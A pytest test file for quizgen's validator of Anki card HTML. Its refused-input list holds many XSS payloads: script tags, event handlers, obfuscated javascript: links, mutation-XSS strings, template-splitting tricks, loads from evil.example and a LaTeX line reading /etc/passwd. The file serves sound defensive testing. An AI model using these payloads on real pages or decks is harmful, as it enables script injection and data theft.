"""Layouts of cards from packs: what is refused, with its place, and what passes."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quizgen.export import Layouts
from quizgen.export.anki_notes import NOTE_TYPES
from quizgen.export.card_html import ANKI_FIELDS, html_faults

PLAIN = ANKI_FIELDS | {"Key"}

REFUSED = [
    # scripts, in every dress
    ("<script>alert(1)</script>", "<script>"),
    ("<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script>"),
    ("<script\n>x</script\n>", "<script>"),
    ("<script/x>alert(1)</script>", "<script"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<noscript>"),
    ("<svg onload=alert(1)>", "<svg>"),
    ("<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg>"),
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=alert(1)&gt;">',
        "<math>",
    ),
    ("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<form>"),
    ('<iframe src="https://evil.example"></iframe>', "<iframe>"),
    ('<object data="x.swf"></object>', "<object>"),
    ('<embed src="x.swf">', "<embed>"),
    ('<base href="https://evil.example/">', "<base>"),
    ('<meta http-equiv=refresh content="0;url=https://evil.example">', "<meta>"),
    ('<link rel=stylesheet href="https://evil.example/x.css">', "<link>"),
    ("<style>@import 'https://evil.example/x.css';</style>", "<style>"),
    ("<template><script>x</script></template>", "<template>"),
    ('<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>', "<textarea>"),
    ("<video src=x onerror=alert(1)>", "<video>"),
    ('<audio autoplay src="https://evil.example/x.mp3">', "<audio>"),
    ("<input autofocus onfocus=alert(1)>", "<input>"),
    ('<button onclick="alert(1)">x</button>', "<button>"),
    ("<xmp><img src=x></xmp>", "<xmp>"),
    ("<plaintext>", "<plaintext>"),
    ("<anki-mathjax>x</anki-mathjax>", "begins no tag"),
    # events and addresses in attributes
    ('<b onclick="alert(1)">x</b>', "'onclick'"),
    ("<b ONMOUSEOVER='alert(1)'>x</b>", "'onmouseover'"),
    ("<img src=x onerror=alert(1)>", "'onerror'"),
    ('<img src="_x.png"onerror="alert(1)">', "can't be read"),
    ('<img/src="_x.png"/onerror=alert(1)>', "can't be read"),
    ('<img src="https://evil.example/x.png">', "media folder"),
    ('<img src="//evil.example/x.png">', "media folder"),
    ('<img src="data:image/png;base64,iVBORw0KGgo=">', "media folder"),
    ('<img src="_x.png" srcset="https://evil.example/x.png 2x">', "'srcset'"),
    ('<table background="https://evil.example/x.png"></table>', "'background'"),
    ('<a href="javascript:alert(1)">x</a>', "a link"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', "a link"),
    ('<a href="java&#115;cript&colon;alert(1)">x</a>', "a link"),
    ('<a href=" &#x1; javascript:alert(1)">x</a>', "a link"),
    ('<a href="java&Tab;script:alert(1)">x</a>', "a link"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4">x</a>', "a link"),
    ('<a href="https://example.org/?q={{Question}}">x</a>', "inside a tag"),
    ('<a xlink:href="javascript:alert(1)">x</a>', "'xlink:href'"),
    ('<a href="https://example.org" ping="https://evil.example">x</a>', "'ping'"),
    ('<b class="a" class="b">x</b>', "twice"),
    ('<div style="background: url(https://evil.example/x.png)">x</div>', "url()"),
    ('<div style="width: expression(alert(1))">x</div>', "'expression()'"),
    ('<div style="background: u&#92;72l(//evil.example)">x</div>', "backslash"),
    # what reassembles when Anki fills the card in
    ("<{{#Hint}}script{{/Hint}}>x", "begins no tag"),
    ("<scr{{#Hint}}{{/Hint}}ipt>x", "begins no tag"),
    ('<b {{#Hint}}onclick{{/Hint}}="x">x</b>', "can't be read"),
    ("<b title={{Question}}>x</b>", "can't be read"),
    ("<b title='{{Key}}'>x</b>", "inside a tag"),
    ('<b title="{{Question}}">x</b>', "quotes"),
    ('<b title="{{hint:Key}}">x</b>', "quotes"),
    ('<p title="{{#Hint}}">x{{/Hint}}" onmouseover="alert(1)">', "where its condition began"),
    ('<p title="{{#Hint}}" class="{{/Hint}} onmouseover=alert(1) x">y</p>', "where its condition began"),
    ('{{#Hint}}<b title="{{/Hint}}" lang="en">x</b>', "where its condition began"),
    ("{{{{Question}}}}", "belongs to no"),
    ("{ {{Question}} {", "belongs to no"),
    ("{{=<% %>=}}<%Question%>", "begins no tag"),
    ("{{text:Question}}", "'text:'"),
    ("{{hint:text:Question}}", "'text:'"),
    ("{{latex:Question}}", "'latex:'"),
    ("{{Tags}}", "doesn't escape"),
    ("{{Deck}} {{Subdeck}}", "doesn't escape"),
    ("<!-- {{#Hint}} --> <b>x</b> <!-- {{/Hint}} -->", "a comment is"),
    ("<!--><script>alert(1)</script>-->", "a comment is"),
    ("<!-- --!><b>x</b> -->", "a comment is"),
    ("<!-- x", "a comment is"),
    ("<![CDATA[<b>x</b>]]>", "a comment is"),
    ("<!DOCTYPE html>", "a comment is"),
    ('<?xml version="1.0"?>', "begins no tag"),
    # commands to Anki itself
    ("[sound:https://evil.example/x.mp3]", "a command"),
    ("[so{{#Hint}}{{/Hint}}und:x.mp3]", "a command"),
    ("[{{#Hint}}x{{/Hint}}sound:x.mp3]", "a command"),
    ("[{{Question}}]", "a command"),
    ("[SOUND:x.mp3]", "a command"),
    ("[latex]\\input{/etc/passwd}[/latex]", "a command"),
    ("[$]x[/$]", "a command"),
    ("[anki:play:q:0]", "a command"),
    (r"\(\href{javascript:alert(1)}{x}\)", "belongs to no"),
    (r"\(x\)", "a backslash"),
    ("&bsol;(x", "a backslash"),
    ('<b title="[sound:x.mp3]">x</b>', "a command"),
    ('<b title="[[type:Answer]]">x</b>', "a command"),
    ("[[{{#Hint}}{{/Hint}}type:Answer]]", "a command"),
    # a comment that Anki sees in a value would hide the end of a condition from it
    ('{{#Hint}}<b title="<!--">{{/Hint}}</b>', "'<' in the value"),
    ('<b title="<img src=x onerror=alert(1)>">x</b>', "'<' in the value"),
    # letters and spaces that are none to a browser
    ('<b class=\u00a0"x onclick=alert(1)">x</b>', "can't be read"),
    ('<b\u2003class="x">y</b>', "begins no tag"),
    ('<\u212abd title="x">y</b>', "begins no tag"),
    ("<\u017fcript>x", "begins no tag"),
    # what no two programs read alike
    ("<b\x00>x</b>", "U+0000"),
    ("x\x0b", "U+000B"),
    ("\ufdd0", "U+FDD0"),
    ("<b", "begins no tag"),
    ('<b title="x>y', "can't be read"),
    ("<b title=`x`>y</b>", "can't be read"),
    ("a < b", "begins no tag"),
    ("</ b>", "begins no tag"),
    ("<tr><td>x</td></tr>", "browsers read <tr> otherwise"),
]


@pytest.mark.parametrize(("text", "told"), REFUSED)
def test_what_could_harm_is_refused_and_named(text: str, told: str) -> None:
    messages = [message for _, message in html_faults(f"<p>{{{{Question}}}}</p>{text}", PLAIN)]
    assert any(told in message for message in messages), messages


def test_the_place_is_that_of_the_fault() -> None:
    text = 'abc\n<b onclick="x">{{text:Q}}</b>'
    places = [text[place:][:5] for place, _ in html_faults(text)]
    assert places == ['x">{{', "{{tex"]


ALLOWED = [
    "",
    "{{Question}}",
    "<hr id=answer>",
    '<hr id="answer"/>',
    "{{FrontSide}}\n<hr id=answer>\n{{Answer}}",
    "{{#Hint}}<i>{{hint:Hint}}</i>{{/Hint}}{{^Hint}}no hint{{/Hint}}",
    "{{type:Answer}} {{type:nc:Answer}} {{cloze:Text}} {{type:cloze:Text}} {{tts en_US voices=A:Question}}",
    "{{kana:Question}} {{furigana:Question}}",
    "{{#Tags}}tagged{{/Tags}}",
    '<div class="card-{{Key}} {{#Hint}}has-hint{{/Hint}}" title="{{Card}}" data-key=\'k\'>x</div>',
    '<div style="color: #1d5fa8; padding: 0.5em calc(1em + 2px)">x</div>',
    "<table border=1><tr>{{#Hint}}<td colspan=2>{{Hint}}</td>{{/Hint}}<th scope=row>x</th></tr></table>",
    "{{#Option A}}<ul><li>{{Option A}}</li></ul>{{/Option A}}",
    '<img src="_logo.png" alt="Our school" width=40>',
    '<a href="https://example.org/help?x=1&amp;y=2">Help</a> <a href="#answer">down</a>',
    "<!-- the question stands here -->\n<P CLASS=big>{{Question}}</P>",
    "<details open><summary>More</summary>{{Evidence}}</details>",
    "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby> <bdi dir=auto>שלום</bdi> &lt;b&gt; &amp; &#123;x&#125;",
    "Say it (aloud): [Hint: {{Hint}}] [ {{Question}} ] a > b",
    "<font color=red size=4>old</font> <center>layouts</center>",
    "&#91;sound:x.mp3] is no command, for Anki reads what is written",
    "<p>unclosed, as people write it<br>{{Question}}<p>second",
]


@pytest.mark.parametrize("text", ALLOWED)
def test_what_formats_a_card_passes(text: str) -> None:
    assert html_faults(text, PLAIN) == []


def test_the_programs_own_layouts_would_pass(layouts: Layouts) -> None:
    for kind in NOTE_TYPES:
        for side in ("front", "back"):
            assert html_faults(layouts[f"anki/{kind.stem}.{side}.html"]) == []


PIECES = [
    "<",
    ">",
    '"',
    "'",
    "=",
    " ",
    "/",
    "b",
    "script",
    "img",
    "src",
    "onerror",
    "alert(1)",
    "<b>",
    "</b>",
    "<i ",
    "{{",
    "}}",
    "{{Question}}",
    "{{#Hint}}",
    "{{/Hint}}",
    "{{Key}}",
    "title=",
    'class="',
    "<!--",
    "-->",
    "&lt;",
    "svg",
    "\\(",
    "[sound:",
    "href",
    "javascript:",
    "<p>",
    'style="color:red"',
    "x",
]


@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join), st.text(max_size=8))
def test_what_passes_holds_no_script_however_it_is_filled_in(text: str, value: str) -> None:
    if html_faults(text, {"Key"}):
        return
    import html

    for condition in (True, False):
        filled = text
        if not condition:
            filled = re.sub(r"\{\{#Hint\}\}.*?\{\{/Hint\}\}", "", filled, flags=re.DOTALL)
        escaped = html.escape(value + "\" onclick=x '", quote=False)
        filled = filled.replace("{{Question}}", escaped).replace("{{Key}}", "A")
        filled = re.sub(r"\{\{[#/]Hint\}\}", "", filled)
        tags = re.findall(r"<[^>]*>", filled)
        assert not any("onerror" in unquoted(tag) or "onclick" in unquoted(tag) for tag in tags)
        assert not any(re.match(r"</?(script|svg|img)", tag) for tag in tags if "_x" not in tag)


def unquoted(tag: str) -> str:
    return re.sub(r"\"[^\"]*\"|'[^']*'", "", tag)


@pytest.mark.parametrize("piece", ["<", "{{", "<b ", '<b a="', "<!--", "[", "&", "{{#x}}", "<b x=y ", "'"])
def test_long_nonsense_is_read_quickly(piece: str) -> None:
    assert len(html_faults(piece * 5_000)) >= 0
